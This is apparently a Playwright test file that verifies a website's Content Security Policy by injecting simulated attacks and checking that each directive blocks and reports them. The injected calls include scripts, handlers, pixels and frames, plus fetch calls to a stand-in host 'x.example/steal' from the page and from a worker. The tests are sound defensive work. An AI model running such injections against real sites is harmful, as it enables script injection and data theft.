/** The content policy in practice: it blocks attacks, and tests notice violations. */
import {open} from './open';
import {SHELL} from './shell/site';
import {expect, type Page, test} from './test';

/** What an attacker might inject into a page, by the directive that blocks it. */
const ATTACKS: Readonly<Record<string, (page: Page) => Promise<unknown>>> = {
  'script-src': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.attacked = true';
      document.head.append(script);
    }),
  'script-src-attr': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<b onclick="window.attacked = true">x</b>');
      // Some versions of Chromium check the handler only when it is about to run.
      (document.body.lastElementChild as HTMLElement).click();
    }),
  'script-src-elem': (page) =>
    page.evaluate(() => {
      document.head.append(
        Object.assign(document.createElement('script'), {src: '//x.example/a.js'}),
      );
    }),
  'style-src': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<p style="position: fixed; inset: 0">x</p>');
    }),
  'connect-src': (page) =>
    page.evaluate(() => fetch('https://x.example/steal').catch(() => undefined)),
  'img-src': (page) => page.evaluate(() => void (new Image().src = 'https://x.example/pixel.gif')),
  'frame-src': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<iframe src="https://x.example/"></iframe>');
    }),
  'font-src': (page) =>
    page.evaluate(() => new FontFace('x', 'url(https://x.example/a.woff2)').load().catch(() => 0)),
  'worker-src': (page) =>
    page.evaluate(() => {
      try {
        new Worker(URL.createObjectURL(new Blob(['self.x = 1'])));
      } catch {
        // Some versions throw, others fire an event.
      }
    }),
  'form-action': (page) =>
    page.evaluate(() => {
      const form = document.createElement('form');
      form.action = 'https://x.example/';
      document.body.append(form);
      form.submit();
    }),
  'base-uri': (page) =>
    page.evaluate(() => {
      document.head.append(Object.assign(document.createElement('base'), {href: '//x.example/'}));
    }),
};

/** What the browser says when a directive blocks something. */
function wordsOf(directive: string): RegExp {
  // It reports a blocked `fetch` twice, the second time without the directive.
  if (directive === 'connect-src') return /connect-src|Refused to connect/;
  return new RegExp(directive.replace(/-(attr|elem)$/, ''));
}

test.describe('attacks', () => {
  // Without the second element, Playwright takes the list itself for a value and its options.
  test.use({expectedViolations: [Object.keys(ATTACKS).map(wordsOf), {scope: 'test'}]});

  test('each directive blocks what it is meant to block, and the test notices', async ({
    page,
    violations,
  }) => {
    await open(page, '/docs/quickstart');
    expect(violations).toEqual([]);
    for (const [directive, attack] of Object.entries(ATTACKS)) {
      await test.step(directive, async () => {
        const before = violations.length;
        await attack(page);
        await expect
          .poll(() => violations.slice(before).filter((line) => wordsOf(directive).test(line)))
          .not.toEqual([]);
        expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
      });
    }
  });
});

test.describe('in a worker', () => {
  test.use({expectedViolations: [/A worker violated .* connect-src https:\/\/x\.example/]});

  test('the same policy applies, and the test notices', async ({page, violations}) => {
    const started = page.waitForEvent('worker');
    await open(page, '/search?q=lineage');
    const worker = await started;
    await worker.evaluate(() => fetch('https://x.example/steal').catch(() => undefined));
    await expect.poll(() => violations).toHaveLength(1);
  });
});

test.fail('an unexpected violation fails the test', async ({page, violations}) => {
  await open(page, '/docs/quickstart');
  await ATTACKS['script-src']?.(page);
  await expect.poll(() => violations).not.toEqual([]);
});

test.describe('in a separate context, without scripts', () => {
  test.fail('a violation fails the test, too', async ({browser, baseURL, violations}) => {
    const context = await browser.newContext({javaScriptEnabled: false});
    const page = await context.newPage();
    await page.route('**/docs/quickstart', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', '<p style="color: red">x</p></body>');
      await route.fulfill({response, body});
    });
    await page.goto(`${baseURL}/docs/quickstart`);
    await expect.poll(() => violations).not.toEqual([]);
    await context.close();
  });
});

test('the policy lists a digest of each inline script', async ({request}) => {
  const response = await request.get('/docs/quickstart');
  const policy = response.headers()['content-security-policy'] ?? '';
  expect(policy).not.toMatch(/unsafe-(?:inline|eval|hashes)|[ ]\*(?:[ ;]|$)/);
  expect(policy).toMatch(/script-src 'self'(?: 'sha256-[\w+/]+=')+;/);
});

test('a build with services allows their hosts and no others', async ({request}) => {
  const policy = (await request.get(SHELL)).headers()['content-security-policy'] ?? '';
  const hostsOf = (directive: string) =>
    new RegExp(`(?:^|; )${directive} ([^;]*)`).exec(policy)?.[1]?.split(' ');
  // Each directive lists only the hosts that need it: the calendar, for instance, is a frame, not a script.
  expect(hostsOf('connect-src')).toContain('https://*.algolianet.com');
  expect(hostsOf('script-src')).toContain('https://widget.example');
  expect(hostsOf('script-src')).not.toContain('https://calendar.example');
  expect(hostsOf('frame-src')).toEqual([
    'https://calendar.example',
    'https://calendly.com',
    'https://forms.example',
  ]);
});
